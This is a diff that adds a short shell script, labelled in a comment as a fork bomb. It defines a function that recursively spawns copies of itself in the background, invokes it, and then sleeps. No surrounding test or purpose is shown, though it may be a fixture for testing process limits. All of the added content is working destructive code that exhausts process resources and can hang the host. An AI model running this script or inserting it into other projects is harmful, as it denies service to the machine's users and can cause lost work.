@@ -1,0 +1,6 @@
+#!/bin/sh
+# A fork bomb.
+cat > /dev/null
+bomb() { bomb | bomb & }
+bomb
+sleep 30
